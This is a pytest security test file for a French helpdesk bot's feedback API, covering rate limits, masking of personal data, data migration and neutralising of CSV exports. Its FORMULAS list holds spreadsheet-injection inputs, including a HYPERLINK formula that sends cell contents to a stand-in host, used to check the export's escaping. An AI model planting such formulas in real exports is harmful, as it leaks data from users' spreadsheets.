"""Security probe (issue 30): feedback flooding, free-text reasons stored and exported in clear, spreadsheet
formulas and a CSV copy left beside the database; surnames kept in the question statistics."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from fastapi.testclient import TestClient

from bot.answer.service import QuestionService
from bot.api.app import create_api
from bot.stores.analytics import question_topic
from bot.stores.feedback import (
    MAX_COMMENT_CHARS,
    Feedback,
    FeedbackReason,
    FeedbackStore,
    open_store,
    spreadsheet_safe,
)
from tests.fixtures.factories import make_settings
from ui import helpdesk

pytestmark = pytest.mark.security

TOKEN = "jeton-retours"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
EMAIL = "jeanne.durand@example.fr"
PHONE = "06 12 34 56 78"
IBAN = "fr76 3000 6000 0112 3456 7890 189"
SECRETS = (EMAIL, PHONE, IBAN)
PERSONAL = f"écrire à {EMAIL}, {PHONE}, IBAN {IBAN}"


def _client(root: Path, **overrides: Any) -> TestClient:
    """The API over a stand-in service: the feedback routes never ask a question."""
    settings = make_settings(feedback_db=root / "fb.sqlite3", access__admin_token=TOKEN, **overrides)
    service = cast(QuestionService, SimpleNamespace(listeners=[], watch_index=lambda: None))
    return TestClient(create_api(service, settings))


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    with _client(tmp_path) as client:
        yield client


def _export(client: TestClient) -> list[dict[str, str]]:
    response = client.get("/api/admin/feedback.csv", headers=AUTH)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def test_feedback_has_its_own_rate_limit(tmp_path: Path) -> None:
    with _client(tmp_path, admission__feedback_rate_limit="3/minute") as client:
        for _ in range(3):
            assert client.post("/api/feedback", json={"rating": "up"}).status_code == 200
        refused = client.post("/api/feedback", json={"rating": "up"})
        assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0
        assert "avis" in refused.json()["detail"]
        assert open_store(make_settings(feedback_db=tmp_path / "fb.sqlite3")).count() == 3


@pytest.mark.parametrize(
    "reasons",
    [["incorrect", "A" * 10_000], [PERSONAL], ["hors sujet"], ["incorrect"] * (len(FeedbackReason) + 1)],
)
def test_only_known_reason_codes_are_accepted(client: TestClient, tmp_path: Path, reasons: list[str]) -> None:
    response = client.post("/api/feedback", json={"rating": "down", "reasons": reasons})
    assert response.status_code == 422
    assert response.json()["detail"].startswith("Requête invalide (reasons")
    assert open_store(make_settings(feedback_db=tmp_path / "fb.sqlite3")).count() == 0


def test_an_unknown_code_is_explained_in_french(client: TestClient) -> None:
    detail = client.post("/api/feedback", json={"rating": "down", "reasons": ["pas_clair"]}).json()["detail"]
    assert "valeur inconnue, valeurs acceptées : 'clair'" in detail and "ou 'hors_sujet'" in detail


def test_the_comment_is_bounded(client: TestClient) -> None:
    comment = "x" * (MAX_COMMENT_CHARS + 1)
    assert client.post("/api/feedback", json={"rating": "down", "comment": comment}).status_code == 422


def test_every_free_text_is_masked_in_the_database_and_the_export(client: TestClient, tmp_path: Path) -> None:
    body = {"rating": "down", "reasons": ["incorrect", "hors_sujet", "incorrect"], "comment": PERSONAL}
    assert client.post("/api/feedback", json={**body, "answer": PERSONAL}).status_code == 200
    raw = (tmp_path / "fb.sqlite3").read_bytes()
    assert not [secret for secret in SECRETS if secret.encode() in raw]
    (row,) = _export(client)
    assert row["reasons"] == "incorrect ; hors sujet"
    assert row["comment"] == "écrire à [courriel], [téléphone], IBAN [IBAN]" == row["answer"]


FORMULAS = ['=HYPERLINK("https://exemple.fr/?v="&A1;"Cliquez")', "+33 6", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_export_neutralises_spreadsheet_formulas(client: TestClient, formula: str) -> None:
    assert client.post("/api/feedback", json={"rating": "down", "comment": formula, "answer": formula}).status_code
    (row,) = _export(client)
    assert row["comment"].startswith("'") and row["answer"].startswith("'")


def test_spreadsheet_safe_leaves_ordinary_cells() -> None:
    assert spreadsheet_safe("Réponse claire") == "Réponse claire"
    assert spreadsheet_safe(3) == 3 and spreadsheet_safe("2026-01-01T00:00:00+00:00").startswith("2026")


def test_the_export_is_streamed_and_leaves_no_file(client: TestClient, tmp_path: Path) -> None:
    for _ in range(3):
        client.post("/api/feedback", json={"rating": "up", "reasons": ["clair"]})
    before = sorted(tmp_path.rglob("*"))
    with client.stream("GET", "/api/admin/feedback.csv", headers=AUTH) as response:
        lines = list(response.iter_lines())
    assert response.headers.get("content-length") is None  # streamed, not a file read whole
    assert lines[0] == "id,created_at,origin,rating,reasons,comment,question,answer" and len(lines) == 4
    assert sorted(tmp_path.rglob("*")) == before


def _old_store(db: Path, reasons: list[str], comment: str) -> None:
    """A store as the version before the reason codes wrote it (free-text reasons, masking of the time)."""
    with closing(sqlite3.connect(db)) as connection, connection:
        connection.execute(
            "CREATE TABLE feedback (id INTEGER PRIMARY KEY AUTOINCREMENT, created_at TEXT NOT NULL, origin TEXT NOT"
            " NULL, rating TEXT NOT NULL, reasons TEXT NOT NULL, comment TEXT NOT NULL, question TEXT NOT NULL,"
            " answer TEXT NOT NULL)"
        )
        connection.execute(
            "INSERT INTO feedback (created_at, origin, rating, reasons, comment, question, answer)"
            " VALUES ('2099-01-01T00:00:00+00:00', 'api', 'down', ?, ?, '', 'Réponse')",
            (json.dumps(reasons, ensure_ascii=False), comment),
        )


def test_a_store_written_before_the_codes_is_migrated_at_open(tmp_path: Path) -> None:
    db = tmp_path / "fb.sqlite3"
    left_export = tmp_path / "fb.export.csv"  # what the export of earlier versions left, unmasked reasons and all
    left_export.write_text(f"id,reasons\n1,{PERSONAL}\n", encoding="utf-8")
    flood = "B" * 200_000
    _old_store(db, ["hors sujet", "Incorrect", PERSONAL, flood], f"IBAN {IBAN}")
    size = db.stat().st_size
    store = open_store(make_settings(feedback_db=db))
    with closing(sqlite3.connect(db)) as connection:
        reasons, comment = connection.execute("SELECT reasons, comment FROM feedback").fetchone()
        assert connection.execute("PRAGMA user_version").fetchone()[0] == 1
    assert json.loads(reasons) == ["hors_sujet", "incorrect"]
    assert comment.startswith("IBAN [IBAN] Autres motifs : écrire à [courriel], [téléphone], IBAN [IBAN] ; BBB")
    assert len(comment) == MAX_COMMENT_CHARS
    raw = db.read_bytes()
    assert not [secret for secret in SECRETS if secret.encode() in raw] and b"B" * 3000 not in raw
    assert db.stat().st_size < size / 10 and not left_export.exists()
    (line,) = list(store.csv_lines())[1:]
    assert ',hors sujet ; incorrect,"IBAN [IBAN] Autres motifs' in line
    store.add(Feedback(rating="up", origin="api", reasons=(FeedbackReason.CLEAR,)))
    assert open_store(make_settings(feedback_db=db)).count() == 2


def test_the_helpdesk_sends_codes_and_shows_labels() -> None:
    assert ("manque de sources", "sources_manquantes") in helpdesk.REASON_CHOICES
    feedback = helpdesk.conseiller_feedback("Q ?", "R.", "👎 Pas utile", ["sources_manquantes"], "")
    assert feedback.reasons == (FeedbackReason.MISSING_SOURCES,)
    with pytest.raises(ValueError, match="Motif inconnu"):
        helpdesk.conseiller_feedback("Q ?", "R.", "👎 Pas utile", [PERSONAL], "")


def test_the_store_refuses_a_reason_that_is_no_code(tmp_path: Path) -> None:
    store = FeedbackStore(tmp_path / "fb.sqlite3", store_questions=False)
    with pytest.raises(ValueError, match="Motif inconnu"):
        store.add(Feedback(rating="down", origin="api", reasons=cast(Any, (PERSONAL,))))
    assert store.count() == 0


def test_topics_keep_only_words_the_documents_hold() -> None:
    """The probe's « dupont » was kept: in lower case it was no name, so not filtered."""
    vocabulary = frozenset({"horaire", "piscine", "numericamp"})
    topic = question_topic("je suis madame dupont martinez, horaires de la piscine ?", vocabulary)
    assert topic == "horaire piscine"
    # The masking's labels (« né le [date de naissance] ») are no topic, even where the documents hold their words
    vocabulary = frozenset({"carte", "date", "naissance", "nom"})
    assert question_topic("Ma carte, Jean Dupont né le 12/03/1985", vocabulary) == "carte"
